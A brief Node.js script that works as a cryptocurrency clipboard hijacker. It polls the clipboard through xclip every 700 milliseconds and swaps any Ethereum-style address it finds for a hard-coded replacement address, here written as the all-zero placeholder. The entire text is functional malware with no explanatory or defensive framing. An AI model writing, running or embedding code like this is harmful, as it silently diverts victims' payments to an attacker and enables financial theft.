const { execSync, spawnSync } = require('child_process');
const mine = '0x0000000000000000000000000000000000000000';
setInterval(() => {
  let t = '';
  try { t = execSync('xclip -selection clipboard -o').toString(); } catch { return; }
  if (/^0x[a-fA-F0-9]{40}$/.test(t.trim()) && t.trim() !== mine) spawnSync('xclip', ['-selection', 'clipboard'], { input: mine });
}, 700);
